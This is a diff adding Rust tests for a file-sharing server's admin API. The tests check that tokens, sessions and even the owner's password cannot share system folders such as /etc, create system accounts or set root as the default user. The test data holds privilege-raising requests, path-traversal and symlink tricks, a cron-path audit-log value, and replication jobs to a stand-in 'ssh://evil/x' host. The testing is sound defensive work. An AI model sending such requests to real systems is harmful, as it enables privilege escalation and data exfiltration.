@@ -1,0 +1,107 @@
+//! A token and an open session change no identity and no trust; a person who gives the own password makes nobody a user of the
+//! system, and shares no system folder.
+
+use std::os::unix::fs::symlink;
+
+use serde_json::{Value, json};
+
+use super::console::{by_person, session, start};
+
+#[test]
+fn neither_a_token_nor_an_open_session_becomes_root() {
+    let server = start();
+    let (token, cookie) = (server.token("script", "write"), session(&server));
+    let file = || std::fs::read_to_string(server.folder.path().join("fourfold.toml")).unwrap();
+    let before = file();
+    for (path, body) in [
+        ("settings", json!({ "key": "default-user", "value": "root" })),
+        ("settings", json!({ "key": "host-accounts", "value": "pam" })),
+        ("settings", json!({ "key": "admin-tls", "value": "false" })),
+        ("settings", json!({ "key": "alert-webhook", "value": "http://127.0.0.1:22/" })),
+        ("settings", json!({ "share": "one", "key": "path", "value": "/etc" })),
+        ("settings", json!({ "share": "one", "key": "guests", "value": "true" })),
+        ("settings", json!({ "share": "one", "key": "replicate-from", "value": "ssh://evil/x" })),
+        ("shares", json!({ "name": "etc", "path": "/etc" })),
+        ("shares/rename", json!({ "name": "one", "new": "two" })),
+        ("shares/remove", json!({ "name": "one" })),
+        ("accounts", json!({ "name": "eve", "password": "one", "groups": ["shadow"] })),
+        ("accounts/password", json!({ "name": "grace", "password": "one" })),
+        ("accounts/change", json!({ "name": "grace", "uid": 1000 })),
+        ("accounts/remove", json!({ "name": "grace" })),
+        ("webhooks", json!({ "folder": "one", "url": "http://127.0.0.1:22/", "secret": "0123456789abcdef" })),
+        ("jobs", json!({ "kind": "replicate", "source": "one", "destination": "ssh://evil/x" })),
+    ] {
+        let (request, text) = (format!("POST /v1/{path}"), body.to_string());
+        let by_token = server.ask(&request, &token, &text);
+        let by_session = server.ask_with(&request, &format!("{cookie}X-Fourfold-Console: 1\r\n"), &text);
+        for answer in [by_token, by_session] {
+            assert_eq!(answer.status, 403, "{path} {body}: {}", answer.body);
+            assert_eq!(answer.json()["needs"], "own_password", "{}", answer.body);
+        }
+    }
+    assert_eq!(file(), before);
+    let limits = json!({ "share": "one", "key": "guests", "value": "false" }).to_string();
+    assert_eq!(
+        server.ask("POST /v1/settings", &token, &limits).status,
+        200,
+        "what only limits needs no person"
+    );
+}
+
+#[test]
+fn the_own_password_shares_no_system_folder_and_makes_no_system_user() {
+    let server = start();
+    let cookie = session(&server);
+    let at = |name: &str| server.folder.path().join(name);
+    let file = || std::fs::read_to_string(at("fourfold.toml")).unwrap();
+    let before = file();
+    for folder in ["one/inner", "elsewhere"] {
+        std::fs::create_dir(at(folder)).unwrap();
+    }
+    symlink("/etc", at("one/etc")).unwrap();
+    symlink(at("elsewhere"), at("one/elsewhere")).unwrap();
+    let refused = |path: &str, body: Value, why: &str| {
+        let answer = by_person(&server, &cookie, path, body.clone());
+        assert!(
+            answer.status == 409 && answer.body.contains(why),
+            "{path} {body}: {} {}",
+            answer.status,
+            answer.body
+        );
+        assert_eq!(file(), before, "{path} {body}");
+    };
+    for system in
+        ["/", "/etc", "/usr/../etc", "/proc/self/root/etc", "/sys", "/dev/shm", "/usr/share", "/var/lib"]
+    {
+        refused("shares", json!({ "name": "all", "path": system }), "system folder");
+        refused("settings", json!({ "share": "one", "key": "path", "value": system }), "system folder");
+    }
+    refused("shares", json!({ "name": "all", "path": at("one/etc") }), "system folder");
+    refused("shares", json!({ "name": "all", "path": at("one/elsewhere") }), "share-roots");
+    refused("shares", json!({ "name": "all", "path": at("elsewhere") }), "share-roots");
+    refused("shares", json!({ "name": "all", "path": at("one/../elsewhere") }), "share-roots");
+    refused("shares", json!({ "name": "all", "path": at("state") }), "state");
+    refused("settings", json!({ "key": "default-user", "value": "root" }), "user or group of the system");
+    refused("settings", json!({ "key": "default-user", "value": "daemon" }), "user or group of the system");
+    for key in ["share-roots", "audit-log", "state", "host-min-uid", "pam-service", "cluster-address-command"]
+    {
+        refused("settings", json!({ "key": key, "value": "1" }), "");
+    }
+    let audit = json!({ "key": "audit-log", "value": "/etc/cron.d/x" });
+    refused("settings", audit, "not changed over the network");
+    if rustix::process::geteuid().is_root() {
+        for body in [
+            json!({ "name": "eve", "password": "one", "groups": ["42"] }),
+            json!({ "name": "eve", "password": "one", "uid": 1 }),
+            json!({ "name": "eve", "password": "one", "gid": 6 }),
+            json!({ "name": "daemon", "password": "one" }),
+        ] {
+            refused("accounts", body, "user of the system");
+        }
+        refused("accounts/change", json!({ "name": "grace", "groups": ["4"] }), "user of the system");
+    }
+    let inner = json!({ "name": "inner", "path": at("one/inner") });
+    let shared = by_person(&server, &cookie, "shares", inner);
+    assert_eq!(shared.status, 200, "a folder in a share: {}", shared.body);
+    assert!(file().contains("[[share]]\nname = \"inner\""), "{}", file());
+}
